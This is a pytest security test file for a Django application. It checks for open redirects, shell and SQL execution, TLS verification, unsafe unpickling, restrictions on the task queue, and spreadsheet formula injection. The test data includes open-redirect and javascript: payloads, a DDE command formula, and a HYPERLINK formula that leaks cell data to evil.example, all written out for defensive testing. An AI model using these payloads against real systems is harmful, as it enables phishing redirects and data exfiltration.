"""SEC-02, 03, 06, 07: where somebody is sent, what is run, what is unpacked, what a spreadsheet computes."""

import ast
import re
from functools import cache
from typing import TypeVar
from urllib.parse import urlsplit

import pytest
from django.conf import settings
from django.test import Client
from django.utils.module_loading import import_string

from recoverline.lib.csv_cells import safe_cell
from tests.base import make_cast, sign_in
from tests.factories import make_user
from tests.recoverline.source import ROOT, imports, modules

Node = TypeVar("Node", bound=ast.AST)

# ---------------------------------------------------------------- SEC-02
AWAY = [
    "https://evil.example/", "//evil.example/", "///evil.example", "/\\evil.example", "\\\\evil.example",
    "https:evil.example", "http:///evil.example", "javascript:alert(1)", "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>", "https://127.0.0.1@evil.example/", "//evil.example\\@127.0.0.1",
    "\thttps://evil.example", "/%09/evil.example", "https://evil.example%2F@127.0.0.1/",
]  # fmt: skip


@pytest.mark.django_db
@pytest.mark.parametrize("target", AWAY)
def test_nobody_is_sent_elsewhere(target: str) -> None:
    assert len(AWAY) == 15
    user = make_user("ana-away", email="ana@example.com")
    user.set_password("correct horse battery")
    user.save()
    form = {"login": "ana@example.com", "password": "correct horse battery", "next": target}
    signed_in = sign_in(user)
    for answer in (
        Client().post("/accounts/login/", form),
        Client().post("/accounts/login/?next=" + target, form),
        signed_in.get("/accounts/login/", {"next": target}),
        signed_in.post("/accounts/logout/", {"next": target}),
        Client().get("/" + target.lstrip("/")),
    ):
        where = urlsplit(answer.get("Location", ""))
        assert (where.scheme, where.netloc) == ("", ""), answer["Location"]
        assert not answer.get("Location", "").startswith(("//", "/\\", "\\"))


# ---------------------------------------------------------------- SEC-03
@cache
def nodes(kind: type[Node]) -> list[tuple[str, Node]]:
    """Module and node of every call (or keyword) of the project."""
    return [(name, node) for name, tree in modules().items() for node in ast.walk(tree) if isinstance(node, kind)]


# Its SQL is that of a queryset, as Django itself compiled it, with the parameters beside it.
COMPILED = {"recoverline.lib.prepared"}
RUNS_CODE = (".raw", "os.popen", "importlib.import_module", "__import__", "compile")


def test_nothing_that_somebody_typed_is_run_as_a_command_or_as_sql() -> None:
    """Besides ruff's rules of the family S, which are bandit's, in every `make lint`."""
    wrong = []
    for module, node in nodes(ast.Call):
        name, where = ast.unparse(node.func), f"{module}:{node.lineno}"
        if any(word.arg == "shell" for word in node.keywords):
            wrong.append(f"{where} a shell")
        if name.endswith(RUNS_CODE) and name != "re.compile":
            wrong.append(f"{where} {name}")
        if name.endswith(".execute") and node.args and not _is_written_here(node.args[0]) and module not in COMPILED:
            wrong.append(f"{where} SQL that is put together")
    assert wrong == []


def _is_written_here(sql: ast.expr) -> bool:
    """A literal, or one whose holes are filled with constants of the module (IN CAPITALS) alone."""
    if isinstance(sql, ast.Constant):
        return True
    holes = [part for part in ast.walk(sql) if isinstance(part, ast.FormattedValue)]
    return isinstance(sql, ast.JoinedStr) and all(
        re.fullmatch(r"[A-Z_.a-z]*[A-Z_]+", ast.unparse(h.value)) for h in holes
    )


def test_the_linter_knows_banditry_and_each_exception_has_its_reason() -> None:
    assert '"S"]' in re.search(r"^select = (.+)$", (ROOT / "pyproject.toml").read_text(), re.MULTILINE)[1]  # type: ignore[index]
    bare = [
        f"{path.relative_to(ROOT)}:{number}"
        for app in ("recoverline", "leads", "scheduling", "messaging")
        for path in (ROOT / app).rglob("*.py")
        for number, line in enumerate(path.read_text().splitlines(), 1)
        if re.search(r"# noqa: S\d+\s*$", line) and "assert" not in line
    ]
    assert bare == []


def test_whoever_talks_to_others_checks_who_they_are() -> None:
    """SEC-21: TLS is verified wherever the source says anything about it."""
    found = [
        f"{module}:{node.lineno}"
        for module, node in nodes(ast.keyword)
        if node.arg in ("verify", "verify_ssl", "ssl_verify_cert")
        and not (isinstance(node.value, ast.Constant) and node.value.value is True)
    ]
    assert found == []
    assert [module for module, node in nodes(ast.Call) if "unverified_context" in ast.unparse(node.func)] == []


# ---------------------------------------------------------------- SEC-06
def test_only_our_own_child_is_unpickled_and_no_yaml_makes_objects() -> None:
    assert {
        module for module, tree in modules().items() if {"pickle", "marshal", "shelve", "dill"} & set(imports(tree))
    } == {"leads.gazetteer"}
    called = {ast.unparse(node.func) for _, node in nodes(ast.Call)}
    loaders = {name for name in called if re.fullmatch(r"yaml\.\w*load\w*", name)}
    assert loaders <= {"yaml.safe_load", "yaml.load_all"}


def test_the_queue_runs_functions_of_ours_alone() -> None:
    """Every task is named in the source or in the settings, in a module of tasks; no name comes from outside."""
    named = {path for paths in settings.EVENT_HANDLERS.values() for path in paths} | set(settings.PERIODIC_TASKS)
    for module, node in nodes(ast.Call):
        if ast.unparse(node.func) in ("queue.enqueue", "queue.enqueue_later"):
            first = node.args[0]
            if isinstance(first, ast.Constant):
                named.add(str(first.value))
            else:
                assert re.fullmatch(r"path|[\w.]*[A-Z_]+", ast.unparse(first)), f"{module}:{node.lineno}"
    assert {path for path in named if ".tasks." not in path and ".accounts.mail." not in path} == set()
    for path in named:
        import_string(path)


@pytest.mark.django_db
def test_the_queues_own_pages_are_for_superusers() -> None:
    """Its schedules can name any function, and failed tasks hold what an error said."""
    ana = sign_in(make_cast().ana)
    pages = [f"/admin/django_q/{model}/" for model in ("schedule", "failure", "success", "ormq")]
    assert {ana.get(page).status_code for page in pages} <= {403, 404}


# ---------------------------------------------------------------- SEC-07
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|'/C calc'!A0", " =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "\u200b=1+1", '=HYPERLINK("https://evil.example?"&A1)',
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_spreadsheet_computes_nothing(formula: str) -> None:
    assert len(FORMULAS) == 16
    cell = safe_cell(formula)
    assert cell.startswith("'")
    assert not re.search(r"[\x00-\x1f\u200b]", cell)
